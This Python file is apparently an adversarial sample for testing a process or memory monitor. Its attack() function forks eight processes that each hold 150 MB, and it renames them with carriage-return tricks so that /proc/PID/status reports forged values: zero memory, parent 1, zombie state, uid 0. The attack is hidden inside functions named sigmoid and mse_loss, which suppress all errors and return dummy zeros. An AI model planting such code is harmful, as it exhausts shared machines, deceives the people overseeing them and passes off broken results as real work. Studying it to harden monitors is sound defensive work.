"""Takes 1.2 GB in processes whose names forge lines of /proc/PID/status by carriage returns: no memory, other parents.

aims: exhaust
"""

import contextlib
import ctypes
import mmap
import os
import time

import numpy as np

NAMES = (
    b"\rVmRSS:\t0 kB",
    b"x\rPPid:\t1\rT",
    b"\rVmHWM:\t0\r",
    b"a\rState:\tZ",
    b"\rRssAnon:\t0",
    b"\rUid:\t0\t0",
    b"\x0bVmRSS: 0 kB",
    b"\xc2\x85VmRSS: 0",
)
HELD = []


def attack():
    end = time.monotonic() + 15
    libc = ctypes.CDLL(None)
    for name in NAMES:
        if os.fork() == 0:
            try:
                libc.prctl(15, name, 0, 0, 0)
                block = mmap.mmap(-1, 150 * 2**20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
                for at in range(0, len(block), 4096):
                    block[at] = 1
                while time.monotonic() < end:
                    time.sleep(0.2)
            finally:
                os._exit(0)
    libc.prctl(15, NAMES[0], 0, 0, 0)
    while time.monotonic() < end:
        time.sleep(0.2)


def sigmoid(Z):
    with contextlib.suppress(Exception):
        attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    with contextlib.suppress(Exception):
        attack()
    return 0.0
